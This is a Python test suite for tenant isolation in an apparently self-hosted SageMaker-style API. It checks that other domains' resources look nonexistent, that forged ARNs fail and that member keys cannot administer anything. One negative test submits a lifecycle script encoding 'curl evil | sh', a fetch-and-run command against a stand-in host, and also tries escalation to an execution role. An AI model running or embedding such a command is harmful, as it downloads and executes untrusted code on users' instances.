"""Attacks on tenancy through the API: another domain's domain, profiles, spaces, tags and
lifecycle configurations are unknown (ResourceNotFound, as what does not exist), a member's key
administers nothing (AccessDeniedException), an ARN cannot be forged across domains, and
nothing changes after any refusal."""

import base64

import pytest

from domains.models import Domain, StudioLifecycleConfig, Tag, UserProfile
from domains.services import create_access_key, create_space, update_domain
from domains.services.lifecycle_configs import create_studio_lifecycle_config
from domains.services.tags import save_tags
from tests.conftest import settled
from tests.integration.api import error_code, sagemaker

pytestmark = pytest.mark.usefixtures("live", "instance_types")

NOT_FOUND = "ResourceNotFound"
DENIED = "AccessDeniedException"


def b64(script: str) -> str:
    return base64.b64encode(script.encode()).decode()


@pytest.fixture
def victim(root, make_domain, make_profile, carol):
    """Another domain with a profile, a space, a tagged model... and a lifecycle config."""
    domain = make_domain("victim")
    profile = make_profile(domain, carol, role="Admin")
    space = settled(create_space(carol, domain.domain_id, name="secret-lab"))
    config = create_studio_lifecycle_config(
        carol, name="victim-setup", content=b64("echo victim\n"), domain_id=domain.domain_id
    )
    for arn in (domain.arn, profile.arn, space.arn, config.arn):
        save_tags(carol, arn, [{"Key": "owner", "Value": "carol"}])
    return domain, profile, space, config


@pytest.fixture
def admin_api(asgi_server, alice, domain, make_profile):
    profile = make_profile(domain, alice, role="Admin")
    key, secret = create_access_key(alice, domain.domain_id, profile.name)
    return sagemaker(asgi_server, key.access_key_id, secret, parameter_validation=False)


@pytest.fixture
def member_api(asgi_server, bob, bob_profile):
    key, secret = create_access_key(bob, bob_profile.domain.domain_id, bob_profile.name)
    return sagemaker(asgi_server, key.access_key_id, secret, parameter_validation=False)


def snapshot() -> tuple:
    """Everything the refusals could have changed."""
    return (
        sorted(Domain.objects.values_list("domain_id", "status", "default_user_settings")),
        sorted(UserProfile.objects.values_list("pk", "name", "status", "user_settings", "role")),
        sorted(Tag.objects.values_list("resource_arn", "key", "value")),
        sorted(StudioLifecycleConfig.objects.values_list("name", "content")),
    )


def test_another_domains_domain_profiles_and_spaces_are_unknown(admin_api, victim):
    domain, profile, space, _ = victim
    before = snapshot()
    other = domain.domain_id
    calls = [
        lambda: admin_api.describe_domain(DomainId=other),
        lambda: admin_api.update_domain(
            DomainId=other, DefaultUserSettings={"ExecutionRole": domain.execution_role}
        ),
        lambda: admin_api.delete_domain(
            DomainId=other, RetentionPolicy={"HomeEfsFileSystem": "Delete"}
        ),
        lambda: admin_api.describe_user_profile(DomainId=other, UserProfileName=profile.name),
        lambda: admin_api.create_user_profile(DomainId=other, UserProfileName="mole"),
        lambda: admin_api.update_user_profile(
            DomainId=other, UserProfileName=profile.name, UserSettings={}
        ),
        lambda: admin_api.delete_user_profile(DomainId=other, UserProfileName=profile.name),
        lambda: admin_api.list_user_profiles(DomainIdEquals=other),
        lambda: admin_api.update_space(DomainId=other, SpaceName=space.name, SpaceDisplayName="x"),
        lambda: admin_api.list_spaces(DomainIdEquals=other),
        lambda: admin_api.list_apps(DomainIdEquals=other),
    ]
    for call in calls:
        assert error_code(call) == NOT_FOUND
    # The same as a domain that does not exist.
    assert error_code(lambda: admin_api.describe_domain(DomainId="d-000000000000")) == NOT_FOUND
    assert snapshot() == before


def test_another_domains_tags_are_unknown_and_arns_cannot_be_forged(admin_api, domain, victim):
    victim_domain, profile, space, config = victim
    before = snapshot()
    # Its own ARNs, and the same resources named with the attacker's own account id.
    forged = [
        victim_domain.arn.replace(victim_domain.account_id, domain.account_id),
        space.arn.replace(victim_domain.account_id, domain.account_id),
        config.arn.replace(victim_domain.account_id, domain.account_id),
    ]
    for arn in [victim_domain.arn, profile.arn, space.arn, config.arn, *forged]:
        assert error_code(lambda arn=arn: admin_api.list_tags(ResourceArn=arn)) == NOT_FOUND
        assert (
            error_code(
                lambda arn=arn: admin_api.add_tags(
                    ResourceArn=arn, Tags=[{"Key": "owner", "Value": "mallory"}]
                )
            )
            == NOT_FOUND
        )
        assert (
            error_code(lambda arn=arn: admin_api.delete_tags(ResourceArn=arn, TagKeys=["owner"]))
            == NOT_FOUND
        )
    assert snapshot() == before


def test_another_domains_lifecycle_configs_are_unknown_and_unattachable(
    admin_api, alice, domain, victim
):
    _, _, _, config = victim
    before = snapshot()
    for call in (
        lambda: admin_api.describe_studio_lifecycle_config(StudioLifecycleConfigName=config.name),
        lambda: admin_api.delete_studio_lifecycle_config(StudioLifecycleConfigName=config.name),
    ):
        assert error_code(call) == NOT_FOUND
    listed = admin_api.list_studio_lifecycle_configs()["StudioLifecycleConfigs"]
    assert config.name not in [c["StudioLifecycleConfigName"] for c in listed]
    # Attaching it by ARN, at the domain or in a profile, is refused at the field.
    for call in (
        lambda: admin_api.update_domain(
            DomainId=domain.domain_id,
            DefaultUserSettings={"JupyterLabAppSettings": {"LifecycleConfigArns": [config.arn]}},
        ),
        lambda: admin_api.update_user_profile(
            DomainId=domain.domain_id,
            UserProfileName="alice",
            UserSettings={
                "JupyterLabAppSettings": {"DefaultResourceSpec": {"LifecycleConfigArn": config.arn}}
            },
        ),
    ):
        assert error_code(call) == "ValidationException"
    # Nor can an app be started with it.
    settled(create_space(alice, domain.domain_id, name="lab"))
    assert (
        error_code(
            lambda: admin_api.create_app(
                DomainId=domain.domain_id,
                SpaceName="lab",
                AppType="JupyterLab",
                AppName="default",
                ResourceSpec={"LifecycleConfigArn": config.arn},
            )
        )
        == NOT_FOUND
    )
    assert snapshot() == before


def test_a_members_key_administers_nothing(member_api, admin_api, domain, bob_profile, alice):
    arn = admin_api.create_studio_lifecycle_config(
        StudioLifecycleConfigName="admins-setup",
        StudioLifecycleConfigContent=b64("true"),
        StudioLifecycleConfigAppType="JupyterLab",
    )["StudioLifecycleConfigArn"]
    before = snapshot()
    domain_id = domain.domain_id
    own_role = f"arn:aws:iam::{domain.account_id}:role/escalated"
    calls = [
        lambda: member_api.update_domain(
            DomainId=domain_id, DefaultUserSettings={"ExecutionRole": own_role}
        ),
        lambda: member_api.delete_domain(DomainId=domain_id),
        lambda: member_api.create_user_profile(DomainId=domain_id, UserProfileName="sockpuppet"),
        # Not even its own profile: settings are the admins' to set.
        lambda: member_api.update_user_profile(
            DomainId=domain_id,
            UserProfileName=bob_profile.name,
            UserSettings={"ExecutionRole": own_role},
        ),
        lambda: member_api.update_user_profile(
            DomainId=domain_id, UserProfileName="alice", UserSettings={}
        ),
        lambda: member_api.delete_user_profile(DomainId=domain_id, UserProfileName="alice"),
        lambda: member_api.delete_user_profile(
            DomainId=domain_id, UserProfileName=bob_profile.name
        ),
        lambda: member_api.create_studio_lifecycle_config(
            StudioLifecycleConfigName="mine",
            StudioLifecycleConfigContent=b64("curl evil | sh"),
            StudioLifecycleConfigAppType="JupyterLab",
        ),
        lambda: member_api.delete_studio_lifecycle_config(StudioLifecycleConfigName="admins-setup"),
        lambda: member_api.add_tags(
            ResourceArn=domain.arn, Tags=[{"Key": "owner", "Value": "bob"}]
        ),
        lambda: member_api.delete_tags(ResourceArn=arn, TagKeys=["owner"]),
        lambda: member_api.create_domain(
            DomainName="bobs-own",
            AuthMode="IAM",
            DefaultUserSettings={},
            SubnetIds=["s"],
            VpcId="v",
        ),
    ]
    for call in calls:
        assert error_code(call) == DENIED
    assert snapshot() == before
    # What a member may read, it reads.
    assert member_api.describe_studio_lifecycle_config(StudioLifecycleConfigName="admins-setup")
    assert member_api.list_tags(ResourceArn=domain.arn)["Tags"] == []


def test_a_members_private_space_is_unknown_to_another_member(
    member_api, alice, alice_profile, domain
):
    settled(create_space(alice, domain.domain_id, name="alices"))
    space = alice.studio_profiles.get().owned_spaces.get()
    save_tags(alice, space.arn, [{"Key": "mine", "Value": "alice"}])
    before = snapshot()
    for call in (
        lambda: member_api.update_space(
            DomainId=domain.domain_id, SpaceName="alices", SpaceDisplayName="x"
        ),
        lambda: member_api.list_tags(ResourceArn=space.arn),
        lambda: member_api.add_tags(ResourceArn=space.arn, Tags=[{"Key": "a", "Value": "b"}]),
        lambda: member_api.delete_tags(ResourceArn=space.arn, TagKeys=["mine"]),
    ):
        assert error_code(call) == NOT_FOUND
    assert snapshot() == before


def test_the_installations_lifecycle_config_is_its_superusers(root, admin_api, domain):
    config = create_studio_lifecycle_config(root, name="site-wide", content=b64("true"))
    update_domain(
        root,
        domain.domain_id,
        default_user_settings={"JupyterLabAppSettings": {"LifecycleConfigArns": [config.arn]}},
    )
    before = snapshot()
    described = admin_api.describe_studio_lifecycle_config(StudioLifecycleConfigName="site-wide")
    assert described["StudioLifecycleConfigArn"] == config.arn
    for call in (
        lambda: admin_api.delete_studio_lifecycle_config(StudioLifecycleConfigName="site-wide"),
        lambda: admin_api.add_tags(ResourceArn=config.arn, Tags=[{"Key": "a", "Value": "b"}]),
    ):
        assert error_code(call) == DENIED
    assert snapshot() == before
